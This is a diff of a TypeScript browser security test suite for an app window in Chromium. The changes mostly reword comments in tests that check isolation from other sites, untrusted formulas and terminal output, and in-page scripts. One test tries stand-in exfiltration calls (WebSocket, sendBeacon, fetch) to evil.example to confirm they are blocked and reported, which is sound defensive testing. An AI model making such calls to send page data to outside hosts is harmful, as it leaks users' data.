@@ -1,5 +1,5 @@
-// Attacks on the window in real Chromium: by pages of other sites and ports, by text that others wrote (a lab, a pipeline,
-// the output of a program), and by whatever would run, load or go somewhere inside the page.
+// Attacks on the window in Chromium: by pages of other sites and ports, by untrusted text (a lab, a pipeline,
+// program output), and by anything that would run, load, or navigate inside the page.
 import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
@@ -93,7 +93,7 @@ let window: OpenWindow;
 let other: Server;
 let otherPort = 0;
 let folder = '';
-/** What the other server was sent. */
+/** Cookies received by the other server. */
 const cookiesSeen: string[] = [];
 const page = (): Page => window.page;
 const TERMINAL = '[data-testid=terminal]';
@@ -219,7 +219,7 @@ describe('a page of another site', () => {
         socket: await socket(),
       };
     }, address());
-    // What it opened is cut off from it, so that it cannot close it either.
+    // A page that it opened is isolated from it, so it cannot close it either.
     for (const left of window.context.pages()) if (left !== page()) await left.close();
     return found;
   }
@@ -251,7 +251,7 @@ describe('a page of another site', () => {
     cookiesSeen.length = 0;
     const { hostname } = new URL(address());
     expect(await attempts(`http://${hostname}:${otherPort}/`)).toEqual(nothing);
-    // To go there, one must know the name, which is new with each start and in no command line.
+    // Reaching it requires the name, which is new with each start and in no command line.
     expect(cookiesSeen.join()).toContain(`fathom-${window.server.port}=`);
     expect(await hacked()).toBe(null);
   });
@@ -320,10 +320,11 @@ describe('inside the page', () => {
         () => new WebSocket('ws://evil.example/'),
         () => navigator.sendBeacon('http://evil.example/', 'x'),
       ];
-      // As the page's own: what a test itself evaluates, no policy holds. Some throw, all are reported.
+      // As the page's own script, because policies do not apply to a test's evaluations. Some throw, all are
+      // reported.
       for (const attempt of tries) setTimeout(() => void new Promise(() => attempt()).catch(() => undefined));
       await fetch('http://evil.example/').catch(() => undefined);
-      // They are reported one after another; a busy machine takes its time.
+      // Reports arrive one by one, slowly on a busy machine.
       for (let waits = 0; waits < 100 && found.size < 12; waits++)
         await new Promise((resolve) => setTimeout(resolve, 50));
       for (const id of ['attribute', 'element']) {
@@ -458,7 +459,7 @@ describe('formulas and tables by another author', () => {
     );
     expect(places.length).toBeGreaterThan(7);
     expect(places.filter(({ height, isInside }) => height > 500 || !isInside)).toEqual([]);
-    // What a formula draws outside of its place is cut off there.
+    // A formula's drawing outside its place is clipped.
     const containment = await formulas.evaluateAll((all) =>
       all.map((each) => getComputedStyle(each).contain),
     );
@@ -556,10 +557,10 @@ describe('a file that is dropped', () => {
   });
 });
 
-/** Presses the mouse on a place of a terminal's line, a person's way: the link is looked for when the pointer comes. */
+/** Clicks a place in a terminal's line like a user: links are detected when the pointer arrives. */
 async function pressOn(terminal: string, text: string, column: number): Promise<void> {
   const row = page().locator(`${terminal} .xterm-rows > div`, { hasText: text }).last();
-  // An element that is redrawn meanwhile has no box.
+  // An element that is being redrawn has no box.
   const box = await eventually(
     () => row.boundingBox(),
     (found) => found !== null,
@@ -577,7 +578,7 @@ async function pressOn(terminal: string, text: string, column: number): Promise<
       return width / 100;
     });
   const [x, y] = [box.x + (column + 0.5) * cell, box.y + box.height / 2];
-  // Links are looked for one line at a time, when the pointer comes to it.
+  // Links are detected one line at a time, when the pointer arrives.
   await page().mouse.move(x, box.y - box.height);
   await page().mouse.move(x, y, { steps: 3 });
   await page().evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
@@ -587,7 +588,7 @@ async function pressOn(terminal: string, text: string, column: number): Promise<
 describe('what is put out in a terminal', () => {
   const question = (): Locator => page().getByTestId('link-question');
   const asked = (): Promise<string> => page().getByTestId('link-address').innerText();
-  /** What is put out meanwhile moves the line away from under the pointer: a person would press again. */
+  /** Output may move the line from under the pointer, so retry like a user. */
   async function pressUntilAsked(terminal: string, text: string, column: number): Promise<void> {
     for (let tries = 0; tries < 5 && (await question().count()) === 0; tries++) {
       await pressOn(terminal, text, column);
@@ -596,7 +597,7 @@ describe('what is put out in a terminal', () => {
         .catch(() => undefined);
     }
   }
-  /** The question is of another link: the one that was pressed on before asked nothing. */
+  /** The question concerns this link: the previously clicked one did not ask. */
   async function refuse(): Promise<void> {
     await page().keyboard.press('Escape');
     await question().waitFor({ state: 'detached' });
